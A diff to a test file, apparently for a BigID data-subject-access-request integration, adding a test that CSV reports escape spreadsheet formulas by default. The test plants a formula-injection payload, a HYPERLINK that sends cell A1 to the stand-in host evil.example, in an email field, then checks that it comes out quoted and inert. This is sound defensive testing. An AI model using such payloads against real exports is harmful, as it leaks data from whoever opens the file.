@@ -90,6 +90,7 @@ describe('DSAR > Get Report', () => {
 			reportOutput: 'file',
 			fileFormat: 'csv',
 			binaryPropertyName: 'report',
+			escapeFormulas: false,
 		});
 		const csvFile = await fileOf(asCsv.items[0], 'report');
 		expect(csvFile).toMatchObject({ fileName: `dsar-${requestId}.csv`, mimeType: 'text/csv' });
@@ -100,6 +101,31 @@ describe('DSAR > Get Report', () => {
 			records.map((record) => columns.map((column) => String(record[column])).join(',')),
 		);
 		expect(lines.at(-1)).toBe('');
+	});
+
+	it('escapes in CSV what a spreadsheet would run as a formula, by default, and leaves numbers alone', async () => {
+		// What a data subject can type into a request form, and BigID finds back in its own tables.
+		const hostile = '=HYPERLINK("https://evil.example/?leak="&A1)@example.com';
+		const requestId = submitted(session, hostile);
+		searchEnds(session);
+		const { items } = await getReport(session, {
+			requestId,
+			reportOutput: 'file',
+			fileFormat: 'csv',
+		});
+		const records = recordsOf(session, requestId);
+		const rows = (await fileOf(items[0], 'data')).text.split('\r\n').slice(1, -1);
+		const cellOf = (attributeName: string) => {
+			const index = records.findIndex((record) => record.attributeName === attributeName);
+			expect(index).toBeGreaterThanOrEqual(0);
+			return rows[index];
+		};
+		expect(cellOf('email')).toContain(
+			`,"'=HYPERLINK(""https://evil.example/?leak=""&A1)@example.com",`,
+		);
+		// Counts are numbers: written as they are.
+		expect(rows.every((row) => /,\d+$/.test(row))).toBe(true);
+		expect(rows.filter((row) => /(^|,)[=+\-@]/.test(row))).toEqual([]);
 	});
 
 	it('pairs each file with its input item, and with Continue On Fail outputs the error of a bad one', async () => {
@@ -247,7 +273,9 @@ describe('DSAR > Submit and Wait', () => {
 		expect(items.map((item) => item.json)).toEqual([
 			{ requestId: request.requestId, recordCount: records.length },
 		]);
-		expect((await fileOf(items[0], 'data')).text).toBe(sarRecordsAsCsv(records));
+		expect((await fileOf(items[0], 'data')).text).toBe(
+			sarRecordsAsCsv(records, { escapeFormulas: true }),
+		);
 	});
 
 	it('fails a request BigID gave up on with what BigID said, without reading a report', async () => {
